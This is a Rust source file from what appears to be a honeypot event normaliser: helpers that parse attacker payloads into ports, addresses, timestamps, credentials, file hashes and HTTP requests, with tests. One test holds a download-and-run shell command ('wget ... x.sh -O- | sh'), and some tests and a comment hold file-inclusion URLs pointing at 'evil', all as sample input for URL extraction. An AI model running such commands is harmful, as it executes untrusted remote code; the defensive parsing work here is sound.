//! Shared readers for hostile payloads: typed field access that errors instead of
//! panicking, bounded strings, ports, addresses, timestamps, files, dorks and HTTP.

use super::{NormalizeError, Result};
use apiary_model::bounded::{bounded, lossy, LONG, MAX_ITEMS, MEDIUM, SHORT};
use apiary_model::event::{canonical_ip, is_internal, parse_ip};
use apiary_model::{Credential, Dork, FileRecord, HttpRequest, Normalized, RawEvent, Session};
use chrono::{DateTime, Duration, NaiveDateTime, Utc};
use serde_json::{Map, Value};
use sha1::Digest as _;
use std::net::IpAddr;

/// A JSON object payload.
pub type Obj = Map<String, Value>;

/// Parses the payload as a JSON object. Invalid UTF-8 inside strings is replaced (lossy)
/// rather than rejected: a sensor that forwards raw attacker bytes still gets its event in.
pub fn json_object(raw: &RawEvent) -> Result<Obj> {
    let value: Value = match serde_json::from_slice(&raw.payload) {
        Ok(v) => v,
        Err(e) => {
            if std::str::from_utf8(&raw.payload).is_ok() {
                return Err(NormalizeError::NotJson(bounded(&e.to_string(), SHORT)));
            }
            let text = String::from_utf8_lossy(&raw.payload);
            serde_json::from_str(&text)
                .map_err(|e| NormalizeError::NotJson(bounded(&e.to_string(), SHORT)))?
        }
    };
    match value {
        Value::Object(m) => Ok(m),
        other => Err(NormalizeError::NotJson(format!("a JSON {}", kind(&other)))),
    }
}

fn kind(v: &Value) -> &'static str {
    match v {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(_) => "number",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    }
}

/// A present, non-null field.
pub fn get<'a>(o: &'a Obj, field: &str) -> Option<&'a Value> {
    o.get(field).filter(|v| !v.is_null())
}

/// The first present, non-null field among `names` (for producers that renamed keys).
pub fn get_any<'a>(o: &'a Obj, names: &[&str]) -> Option<&'a Value> {
    names.iter().find_map(|n| get(o, n))
}

/// Text of a scalar: strings as they are, numbers and booleans printed; structures are an error.
pub fn text_value(v: &Value, field: &'static str, max: usize) -> Result<Option<String>> {
    match v {
        Value::Null => Ok(None),
        Value::String(s) => Ok(Some(bounded(s, max))),
        Value::Number(n) => Ok(Some(bounded(&n.to_string(), max))),
        Value::Bool(b) => Ok(Some(b.to_string())),
        Value::Array(_) | Value::Object(_) => Err(NormalizeError::BadField {
            field,
            reason: "expected a string",
        }),
    }
}

/// Optional text field, bounded to `max` bytes.
pub fn text(o: &Obj, field: &'static str, max: usize) -> Result<Option<String>> {
    match get(o, field) {
        Some(v) => text_value(v, field, max),
        None => Ok(None),
    }
}

/// Like [`text`], empty (or all-blank) strings read as absent.
pub fn text_nonempty(o: &Obj, field: &'static str, max: usize) -> Result<Option<String>> {
    Ok(text(o, field, max)?.filter(|s| !s.trim().is_empty()))
}

/// Optional string field, borrowed (structures and numbers are an error).
pub fn str_field<'a>(o: &'a Obj, field: &'static str) -> Result<Option<&'a str>> {
    match get(o, field) {
        None => Ok(None),
        Some(Value::String(s)) => Ok(Some(s)),
        Some(_) => Err(NormalizeError::BadField {
            field,
            reason: "expected a string",
        }),
    }
}

/// Optional object field.
pub fn obj_field<'a>(o: &'a Obj, field: &'static str) -> Result<Option<&'a Obj>> {
    match get(o, field) {
        None => Ok(None),
        Some(Value::Object(m)) => Ok(Some(m)),
        Some(_) => Err(NormalizeError::BadField {
            field,
            reason: "expected an object",
        }),
    }
}

/// Optional array field.
pub fn array_field<'a>(o: &'a Obj, field: &'static str) -> Result<&'a [Value]> {
    match get(o, field) {
        None => Ok(&[]),
        Some(Value::Array(a)) => Ok(a),
        Some(_) => Err(NormalizeError::BadField {
            field,
            reason: "expected a list",
        }),
    }
}

/// A list of strings (nulls skipped), each bounded to `max`, at most `MAX_ITEMS` kept.
pub fn text_list(o: &Obj, field: &'static str, max: usize) -> Result<Vec<String>> {
    let mut out = Vec::new();
    for v in array_field(o, field)? {
        if out.len() >= MAX_ITEMS {
            break;
        }
        if let Some(s) = text_value(v, field, max)? {
            out.push(s);
        }
    }
    Ok(out)
}

/// A port from a number or a numeric string.
///
/// `0`, negative, fractional and > 65535 values give `None`: the event is kept without a
/// port (several producers send 0 for "unknown"). Anything that is not a number is an error.
pub fn port_value(v: &Value, field: &'static str) -> Result<Option<u16>> {
    let bad = NormalizeError::BadField {
        field,
        reason: "expected a port number",
    };
    let n: Option<i128> = match v {
        Value::Null => return Ok(None),
        Value::Number(n) => n
            .as_i64()
            .map(i128::from)
            .or_else(|| n.as_u64().map(i128::from)),
        Value::String(s) => {
            let s = s.trim();
            if s.is_empty() {
                return Ok(None);
            }
            match s.parse::<i128>() {
                Ok(n) => Some(n),
                // Digits too long for i128 are still a (useless) number.
                Err(_)
                    if s.trim_start_matches('-')
                        .bytes()
                        .all(|b| b.is_ascii_digit()) =>
                {
                    None
                }
                Err(_) => return Err(bad),
            }
        }
        _ => return Err(bad),
    };
    Ok(n.and_then(|n| u16::try_from(n).ok()).filter(|p| *p != 0))
}

/// Optional port field, see [`port_value`].
pub fn port(o: &Obj, field: &'static str) -> Result<Option<u16>> {
    match get(o, field) {
        Some(v) => port_value(v, field),
        None => Ok(None),
    }
}

/// Optional unsigned integer (number or numeric string); negative or non-numeric is an error.
pub fn uint(o: &Obj, field: &'static str) -> Result<Option<u64>> {
    let bad = NormalizeError::BadField {
        field,
        reason: "expected a non-negative integer",
    };
    match get(o, field) {
        None => Ok(None),
        Some(Value::Number(n)) => n.as_u64().map(Some).ok_or(bad),
        Some(Value::String(s)) if s.trim().is_empty() => Ok(None),
        Some(Value::String(s)) => s.trim().parse().map(Some).map_err(|_| bad),
        Some(_) => Err(bad),
    }
}

/// Optional signed integer (number or numeric string).
pub fn int(o: &Obj, field: &'static str) -> Result<Option<i64>> {
    let bad = NormalizeError::BadField {
        field,
        reason: "expected an integer",
    };
    match get(o, field) {
        None => Ok(None),
        Some(Value::Number(n)) => n.as_i64().map(Some).ok_or(bad),
        Some(Value::String(s)) if s.trim().is_empty() => Ok(None),
        Some(Value::String(s)) => s.trim().parse().map(Some).map_err(|_| bad),
        Some(_) => Err(bad),
    }
}

/// Optional boolean; also accepts 0/1 and "true"/"false".
pub fn boolean(o: &Obj, field: &'static str) -> Result<Option<bool>> {
    match get(o, field) {
        None => Ok(None),
        Some(Value::Bool(b)) => Ok(Some(*b)),
        Some(Value::Number(n)) => Ok(Some(n.as_f64().unwrap_or(0.0) != 0.0)),
        Some(Value::String(s)) => match s.trim().to_ascii_lowercase().as_str() {
            "true" | "1" | "yes" => Ok(Some(true)),
            "false" | "0" | "no" | "" => Ok(Some(false)),
            _ => Err(NormalizeError::BadField {
                field,
                reason: "expected a boolean",
            }),
        },
        Some(_) => Err(NormalizeError::BadField {
            field,
            reason: "expected a boolean",
        }),
    }
}

/// An address from a JSON value: unparseable text (a hostname, `""`) is `None`, a non-string
/// is an error.
pub fn ip_value(v: &Value, field: &'static str) -> Result<Option<IpAddr>> {
    match v {
        Value::Null => Ok(None),
        Value::String(s) => Ok(parse_ip(s)),
        _ => Err(NormalizeError::BadField {
            field,
            reason: "expected an IP address string",
        }),
    }
}

/// Optional address field, see [`ip_value`].
pub fn ip(o: &Obj, field: &'static str) -> Result<Option<IpAddr>> {
    match get(o, field) {
        Some(v) => ip_value(v, field),
        None => Ok(None),
    }
}

/// The attacker address of an event: required, and must parse.
pub fn source_ip_value(v: Option<&Value>, field: &'static str) -> Result<IpAddr> {
    let v = v.ok_or(NormalizeError::MissingField(field))?;
    ip_value(v, field)?.ok_or(NormalizeError::BadField {
        field,
        reason: "not an IP address",
    })
}

/// Required attacker address field.
pub fn source_ip(o: &Obj, field: &'static str) -> Result<IpAddr> {
    source_ip_value(get(o, field), field)
}

/// A destination address worth keeping: `0.0.0.0` / `::` (a wildcard bind) is not one.
pub fn dest(ip: Option<IpAddr>) -> Option<IpAddr> {
    ip.map(canonical_ip).filter(|ip| !ip.is_unspecified())
}

/// Splits `ip:port`, `[v6]:port` or `v6:port` text (Snort's `src_ap` always appends a port,
/// `:0` when there is none, so the last colon is taken as the port separator whenever the
/// rest is an address); a bare address gives no port.
pub fn split_addr_port(s: &str) -> (Option<IpAddr>, Option<u16>) {
    let s = s.trim();
    if let Some((host, port)) = s.rsplit_once(':') {
        if let (Some(ip), Ok(port)) = (parse_ip(host), port.parse::<u32>()) {
            return (Some(ip), u16::try_from(port).ok().filter(|p| *p != 0));
        }
    }
    (parse_ip(s), None)
}

/// Application protocol conventionally served on a port.
///
/// Fix of mnemosyne's table: 443 is `https` (mnemosyne stored `https"`, with a stray quote),
/// and names come from this fixed table rather than the MHN host's `/etc/services`, so the
/// same port gives the same protocol on every install.
pub fn port_service(port: u16) -> Option<&'static str> {
    Some(match port {
        21 => "ftp",
        22 => "ssh",
        23 => "telnet",
        25 => "smtp",
        42 => "nameserver",
        53 => "dns",
        69 => "tftp",
        80 => "http",
        81 => "http",
        102 => "s7comm",
        110 => "pop3",
        111 => "sunrpc",
        123 => "ntp",
        135 => "dcom-scm",
        137 => "netbios-ns",
        139 => "netbios-ssn",
        143 => "imap",
        161 => "snmp",
        389 => "ldap",
        443 => "https",
        445 => "microsoft-ds",
        502 => "modbus",
        623 => "ipmi",
        1025 => "kamstrup",
        1433 => "mssql",
        1723 => "pptp",
        1883 => "mqtt",
        1900 => "upnp",
        2222 => "ssh",
        2223 => "telnet",
        2323 => "telnet",
        2404 => "iec104",
        3306 => "mysql",
        3389 => "rdp",
        5060 => "sip",
        5432 => "postgresql",
        5900 => "vnc",
        6379 => "redis",
        8080 => "http-alt",
        8443 => "https-alt",
        9200 => "elasticsearch",
        10001 => "guardian-ast",
        11211 => "memcached",
        27017 => "mongodb",
        44818 => "enip",
        47808 => "bacnet",
        _ => return None,
    })
}

/// Parses a sensor timestamp: RFC 3339, `+0100` offsets, or naive (taken as UTC) in the
/// `YYYY-MM-DD HH:MM:SS[.f]`, `YYYY-MM-DDTHH:MM:SS[.f]` and `YYYY/MM/DD HH:MM:SS[.f]` forms.
pub fn parse_time(s: &str) -> Option<DateTime<Utc>> {
    let s = s.trim();
    if s.len() > 64 {
        return None;
    }
    if let Ok(t) = DateTime::parse_from_rfc3339(s) {
        return Some(t.with_timezone(&Utc));
    }
    for f in ["%Y-%m-%dT%H:%M:%S%.f%z", "%Y-%m-%d %H:%M:%S%.f%z"] {
        if let Ok(t) = DateTime::parse_from_str(s, f) {
            return Some(t.with_timezone(&Utc));
        }
    }
    for f in [
        "%Y-%m-%dT%H:%M:%S%.f",
        "%Y-%m-%d %H:%M:%S%.f",
        "%Y/%m/%d %H:%M:%S%.f",
        "%Y/%m/%d-%H:%M:%S%.f",
    ] {
        if let Ok(t) = NaiveDateTime::parse_from_str(s, f) {
            return Some(t.and_utc());
        }
    }
    None
}

/// The event time: the sensor's when it has one, unless that is more than a day ahead of
/// receipt (a broken sensor clock would otherwise put events in the future forever).
pub fn event_time(sensor: Option<DateTime<Utc>>, received: DateTime<Utc>) -> DateTime<Utc> {
    match sensor {
        Some(t) if t <= received + Duration::days(1) => t,
        _ => received,
    }
}

/// [`event_time`] from an optional text field; wrong types are errors, unparseable text
/// falls back to receipt time.
pub fn time_field(o: &Obj, field: &'static str, received: DateTime<Utc>) -> Result<DateTime<Utc>> {
    let sensor = match get(o, field) {
        None => None,
        Some(Value::String(s)) => parse_time(s),
        Some(Value::Number(_)) => None,
        Some(_) => {
            return Err(NormalizeError::BadField {
                field,
                reason: "expected a timestamp string",
            })
        }
    };
    Ok(event_time(sensor, received))
}

/// A fresh session of `honeypot` at `timestamp`, tagged with the raw message's channel.
pub fn new_session(raw: &RawEvent, honeypot: &str, timestamp: DateTime<Utc>) -> Session {
    Session {
        timestamp,
        honeypot: bounded(honeypot, SHORT),
        channel: bounded(&raw.channel, SHORT),
        ..Default::default()
    }
}

/// Finishes and emits a session: `internal` from the source, `protocol` from the port table
/// when the honeypot gave none.
pub fn push_session(out: &mut Vec<Normalized>, mut s: Session) {
    s.source_ip = s.source_ip.map(canonical_ip);
    s.destination_ip = dest(s.destination_ip);
    s.internal = s.source_ip.is_some_and(is_internal);
    if s.protocol.is_none() {
        s.protocol = s
            .destination_port
            .and_then(port_service)
            .map(str::to_string);
    }
    out.push(Normalized::Session(Box::new(s)));
}

/// A bounded credential.
pub fn credential(username: &str, password: &str) -> Credential {
    Credential {
        username: bounded(username, SHORT),
        password: bounded(password, SHORT),
    }
}

/// A credential from `[user, pass]` or `{"username"|"login"|"user", "password"|"pass"}`.
/// `null` is `None`; anything else is an error.
pub fn credential_value(v: &Value, field: &'static str) -> Result<Option<Credential>> {
    let bad = NormalizeError::BadField {
        field,
        reason: "expected [username, password]",
    };
    match v {
        Value::Null => Ok(None),
        Value::Array(a) => match a.as_slice() {
            [] => Ok(None),
            [u, p, ..] => {
                let u = text_value(u, field, SHORT)?.unwrap_or_default();
                let p = text_value(p, field, SHORT)?.unwrap_or_default();
                Ok(Some(credential(&u, &p)))
            }
            [_] => Err(bad),
        },
        Value::Object(m) => {
            let u = match get_any(m, &["username", "login", "user"]) {
                Some(v) => text_value(v, field, SHORT)?.unwrap_or_default(),
                None => String::new(),
            };
            let p = match get_any(m, &["password", "pass"]) {
                Some(v) => text_value(v, field, SHORT)?.unwrap_or_default(),
                None => String::new(),
            };
            Ok(Some(credential(&u, &p)))
        }
        _ => Err(bad),
    }
}

/// A list of credentials (see [`credential_value`]), capped at `MAX_ITEMS`.
pub fn credential_list(o: &Obj, field: &'static str) -> Result<Vec<Credential>> {
    let mut out = Vec::new();
    for v in array_field(o, field)? {
        if out.len() >= MAX_ITEMS {
            break;
        }
        if let Some(c) = credential_value(v, field)? {
            out.push(c);
        }
    }
    Ok(out)
}

/// A hash as lower-case hex, if `s` looks like an md5/sha1/sha256/sha512 digest.
pub fn hash_hex(s: &str) -> Option<String> {
    let s = s.trim();
    (matches!(s.len(), 32 | 40 | 64 | 128) && s.bytes().all(|b| b.is_ascii_hexdigit()))
        .then(|| s.to_ascii_lowercase())
}

/// Hashes a captured file and guesses its type. `guess` overrides the magic-byte guess.
pub fn file_record(data: Vec<u8>, guess: Option<String>, url: Option<String>) -> FileRecord {
    FileRecord {
        md5: hex::encode(md5::Md5::digest(&data)),
        sha1: hex::encode(sha1::Sha1::digest(&data)),
        sha256: hex::encode(sha2::Sha256::digest(&data)),
        sha512: hex::encode(sha2::Sha512::digest(&data)),
        size: data.len() as u64,
        content_guess: Some(guess.unwrap_or_else(|| content_guess(&data).to_string())),
        data: Some(data),
        url,
    }
}

/// A coarse file type from magic bytes (libmagic is not worth a C dependency here).
pub fn content_guess(data: &[u8]) -> &'static str {
    if data.starts_with(b"MZ") {
        "PE32 executable"
    } else if data.starts_with(b"\x7fELF") {
        "ELF"
    } else if data.starts_with(b"PK\x03\x04") || data.starts_with(b"PK") {
        "Zip archive"
    } else if data.starts_with(b"GIF8") {
        "GIF image data"
    } else if data.starts_with(b"%PDF") {
        "PDF document"
    } else if data.starts_with(b"#!") {
        "script"
    } else if data.starts_with(b"\x1f\x8b") {
        "gzip compressed data"
    } else if data.starts_with(b"FWS") || data.starts_with(b"CWS") || data.starts_with(b"ZWS") {
        "Macromedia Flash data"
    } else if data.starts_with(b"\x89PNG") {
        "PNG image data"
    } else if data.is_empty() {
        "empty"
    } else {
        "data"
    }
}

/// Decodes base64 leniently about whitespace and padding.
pub fn base64_decode(s: &str) -> Option<Vec<u8>> {
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
    use base64::Engine as _;
    let clean: String = s.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    STANDARD
        .decode(&clean)
        .or_else(|_| STANDARD_NO_PAD.decode(clean.trim_end_matches('=')))
        .ok()
}

/// The path of a URL or path, query and fragment stripped.
pub fn url_path(url: &str) -> &str {
    // Cut the query first: `/x.php?u=http://evil/` is a path, not a URL to `evil`.
    let end = url.find(['?', '#']).unwrap_or(url.len());
    let url = url.get(..end).unwrap_or(url);
    match url.find("://") {
        Some(i) => {
            let after = url.get(i + 3..).unwrap_or("");
            after.find('/').and_then(|j| after.get(j..)).unwrap_or("/")
        }
        None => url,
    }
}

/// A dork from a requested URL: its path, unless it is trivial (`/`) or one of the paths
/// every scanner hits (`/headers`, `favicon.ico`, `w00tw00t`, `/robots.txt`), which would
/// drown the interesting ones.
pub fn dork(url: &str) -> Option<Dork> {
    let path = url_path(url.trim());
    let noise = ["/headers", "favicon.ico", "w00tw00t", "/robots.txt"];
    if path.len() <= 1 || noise.iter().any(|n| path.contains(n)) {
        return None;
    }
    Some(Dork {
        content: bounded(path, MEDIUM),
        kind: "inurl".to_string(),
    })
}

/// Adds a header to a request, filling `host`/`user_agent` from the first such header.
pub fn push_header(req: &mut HttpRequest, name: &str, value: &str) {
    let name = bounded(&name.trim().to_ascii_lowercase(), SHORT);
    let value = value.trim();
    if name == "host" && req.host.is_none() {
        req.host = Some(bounded(value, MEDIUM));
    }
    if name == "user-agent" && req.user_agent.is_none() {
        req.user_agent = Some(bounded(value, MEDIUM));
    }
    if req.headers.len() < MAX_ITEMS {
        req.headers.push((name, bounded(value, MEDIUM)));
    }
}

/// Parses a raw HTTP request (`request line`, headers, blank line, body). Tolerates `\n`
/// line ends and missing parts; header names are lower-cased.
pub fn parse_raw_http(raw: &str) -> HttpRequest {
    let (head, body) = match raw.find("\r\n\r\n") {
        Some(i) => (raw.get(..i).unwrap_or(""), raw.get(i + 4..).unwrap_or("")),
        None => match raw.find("\n\n") {
            Some(i) => (raw.get(..i).unwrap_or(""), raw.get(i + 2..).unwrap_or("")),
            None => (raw, ""),
        },
    };
    let mut req = HttpRequest::default();
    let mut lines = head.lines();
    if let Some(first) = lines.next() {
        let mut parts = first.split_whitespace();
        req.method = parts.next().map(|m| bounded(m, SHORT));
        req.path = parts.next().map(|p| bounded(p, MEDIUM));
    }
    for line in lines {
        if let Some((name, value)) = line.split_once(':') {
            push_header(&mut req, name, value);
        }
    }
    req.body = Some(bounded(body, LONG)).filter(|b| !b.is_empty());
    req
}

/// Bounded copy of attacker JSON for `ics`/`extra`: at most 8 levels deep, `MAX_ITEMS`
/// entries per list or object, strings cut to `MEDIUM`, about `LONG` bytes of text overall.
pub fn bounded_json(v: &Value) -> Value {
    let mut budget = LONG;
    bound_rec(v, 0, &mut budget)
}

fn bound_rec(v: &Value, depth: usize, budget: &mut usize) -> Value {
    if depth >= 8 || *budget == 0 {
        return Value::Null;
    }
    match v {
        Value::String(s) => {
            let s = bounded(s, MEDIUM.min(*budget));
            *budget = budget.saturating_sub(s.len().max(1));
            Value::String(s)
        }
        Value::Array(a) => Value::Array(
            a.iter()
                .take(MAX_ITEMS)
                .map(|x| bound_rec(x, depth + 1, budget))
                .collect(),
        ),
        Value::Object(m) => {
            let mut out = Map::new();
            for (k, x) in m.iter().take(MAX_ITEMS) {
                if *budget == 0 {
                    break;
                }
                let k = bounded(k, SHORT);
                *budget = budget.saturating_sub(k.len().max(1));
                let x = bound_rec(x, depth + 1, budget);
                out.insert(k, x);
            }
            Value::Object(out)
        }
        scalar => {
            *budget = budget.saturating_sub(8);
            scalar.clone()
        }
    }
}

/// Builds a JSON object from the present entries, or `None` when all are absent.
pub fn extra(entries: Vec<(&str, Option<Value>)>) -> Option<Value> {
    let m: Map<String, Value> = entries
        .into_iter()
        .filter_map(|(k, v)| v.filter(|v| !v.is_null()).map(|v| (k.to_string(), v)))
        .collect();
    (!m.is_empty()).then_some(Value::Object(m))
}

/// Payload as text for line/word formats: lossy UTF-8, bounded.
pub fn payload_text(raw: &RawEvent, max: usize) -> String {
    lossy(&raw.payload, max)
}

/// Lower-cased, bounded protocol label, `None` when blank.
pub fn proto_label(s: &str) -> Option<String> {
    let s = s.trim();
    (!s.is_empty()).then(|| bounded(&s.to_ascii_lowercase(), SHORT))
}

/// Pulls `http://`, `https://`, `ftp://` and `tftp://` URLs out of a command line.
pub fn urls_in(command: &str) -> Vec<String> {
    command
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '`' | '|' | '&'))
        .filter(|w| {
            let l = w.to_ascii_lowercase();
            ["http://", "https://", "ftp://", "tftp://"]
                .iter()
                .any(|p| l.starts_with(p) && l.len() > p.len())
        })
        .take(MAX_ITEMS)
        .map(|w| bounded(w, MEDIUM))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn ports() {
        let f = "p";
        assert_eq!(port_value(&json!(22), f), Ok(Some(22)));
        assert_eq!(port_value(&json!("445"), f), Ok(Some(445)));
        assert_eq!(port_value(&json!(" 80 "), f), Ok(Some(80)));
        assert_eq!(port_value(&json!(0), f), Ok(None));
        assert_eq!(port_value(&json!(-1), f), Ok(None));
        assert_eq!(port_value(&json!(65536), f), Ok(None));
        assert_eq!(port_value(&json!(u64::MAX), f), Ok(None));
        assert_eq!(port_value(&json!(22.5), f), Ok(None));
        assert_eq!(
            port_value(&json!("99999999999999999999999999999999999999999"), f),
            Ok(None)
        );
        assert_eq!(port_value(&json!(""), f), Ok(None));
        assert!(port_value(&json!("ssh"), f).is_err());
        assert!(port_value(&json!([22]), f).is_err());
        assert!(port_value(&json!(true), f).is_err());
    }

    #[test]
    fn times() {
        let rx = chrono::TimeZone::with_ymd_and_hms(&Utc, 2024, 5, 1, 12, 0, 0).unwrap();
        let want = |s: &str| DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc);
        assert_eq!(
            parse_time("2017-04-07T22:24:37.251547+0100"),
            Some(want("2017-04-07T21:24:37.251547Z"))
        );
        assert_eq!(
            parse_time("2013-06-09 06:06:20"),
            Some(want("2013-06-09T06:06:20Z"))
        );
        assert_eq!(
            parse_time("2019/06/20 12:00:00.123456"),
            Some(want("2019-06-20T12:00:00.123456Z"))
        );
        assert_eq!(parse_time("yesterday"), None);
        // A day and a bit ahead: clamped; a few hours ahead (timezone skew): kept.
        assert_eq!(event_time(Some(want("2024-05-02T13:00:00Z")), rx), rx);
        assert_eq!(
            event_time(Some(want("2024-05-01T20:00:00Z")), rx),
            want("2024-05-01T20:00:00Z")
        );
        assert_eq!(event_time(Some(want("9999-01-01T00:00:00Z")), rx), rx);
    }

    #[test]
    fn services() {
        assert_eq!(port_service(443), Some("https"));
        assert_eq!(port_service(445), Some("microsoft-ds"));
        assert_eq!(port_service(1), None);
    }

    #[test]
    fn dorks() {
        let d = |u: &str| dork(u).map(|d| d.content);
        assert_eq!(
            d("http://somesite.pp/nillermanden.php").as_deref(),
            Some("/nillermanden.php")
        );
        assert_eq!(
            d("http://somesite.com/jinxed?a=b&c=d").as_deref(),
            Some("/jinxed")
        );
        assert_eq!(d("/goodbeer").as_deref(), Some("/goodbeer"));
        assert_eq!(d("http://somesite.pp/"), None);
        assert_eq!(d("http://somesite.pp"), None);
        assert_eq!(d("http://somesite.pp/favicon.ico"), None);
        assert_eq!(d("http://somesite.pp/headers"), None);
        assert_eq!(d("/robots.txt"), None);
        assert_eq!(d("/w00tw00t.at.ISC.SANS.DFind:)"), None);
        assert_eq!(d("/?x=1"), None);
        assert_eq!(
            d("/index.php?page=http://evil/x.txt").as_deref(),
            Some("/index.php")
        );
    }

    #[test]
    fn raw_http() {
        let r = parse_raw_http(
            "GET /robots.txt HTTP/1.1\r\nAccept-Encoding: identity\r\nHost: woopa.mil\r\n\r\nMuhaha",
        );
        assert_eq!(
            r,
            HttpRequest {
                method: Some("GET".into()),
                path: Some("/robots.txt".into()),
                host: Some("woopa.mil".into()),
                user_agent: None,
                headers: vec![
                    ("accept-encoding".into(), "identity".into()),
                    ("host".into(), "woopa.mil".into())
                ],
                body: Some("Muhaha".into()),
            }
        );
        assert_eq!(parse_raw_http(""), HttpRequest::default());
    }

    #[test]
    fn files() {
        let f = file_record(b"MZ\x90\x00".to_vec(), None, None);
        assert_eq!(f.content_guess.as_deref(), Some("PE32 executable"));
        assert_eq!(f.size, 4);
        let e = file_record(Vec::new(), None, None);
        assert_eq!(e.md5, "d41d8cd98f00b204e9800998ecf8427e");
        assert_eq!(e.sha1, "da39a3ee5e6b4b0d3255bfef95601890afd80709");
        assert_eq!(
            e.sha256,
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
        assert!(e.sha512.starts_with("cf83e1357eefb8bd"));
        assert_eq!(content_guess(b"\x7fELF\x02"), "ELF");
        assert_eq!(content_guess(b"#!/bin/sh"), "script");
        assert_eq!(content_guess(b"hello"), "data");
    }

    #[test]
    fn bounded_json_limits() {
        let big = "x".repeat(1 << 20);
        let v =
            json!({"a": big, "deep": [[[[[[[[[[1]]]]]]]]]], "many": (0..1000).collect::<Vec<_>>()});
        let b = bounded_json(&v);
        assert!(serde_json::to_string(&b).unwrap().len() < LONG * 2);
        assert_eq!(b["many"].as_array().unwrap().len(), MAX_ITEMS);
    }

    #[test]
    fn addr_port() {
        assert_eq!(
            split_addr_port("198.51.100.7:51234"),
            ("198.51.100.7".parse().ok(), Some(51234))
        );
        assert_eq!(
            split_addr_port("[2001:db8::1]:22"),
            ("2001:db8::1".parse().ok(), Some(22))
        );
        assert_eq!(
            split_addr_port("2001:db8::1"),
            ("2001:db8::1".parse().ok(), None)
        );
        assert_eq!(
            split_addr_port("2001:db8::1:22"),
            ("2001:db8::1".parse().ok(), Some(22))
        );
        assert_eq!(
            split_addr_port("10.0.0.1:0"),
            ("10.0.0.1".parse().ok(), None)
        );
        assert_eq!(split_addr_port("10.0.0.1"), ("10.0.0.1".parse().ok(), None));
        assert_eq!(split_addr_port("junk"), (None, None));
    }

    #[test]
    fn command_urls() {
        assert_eq!(
            urls_in("cd /tmp; wget http://198.51.100.9/x.sh -O- | sh; curl 'https://e.x/a'"),
            vec!["http://198.51.100.9/x.sh", "https://e.x/a"]
        );
    }
}
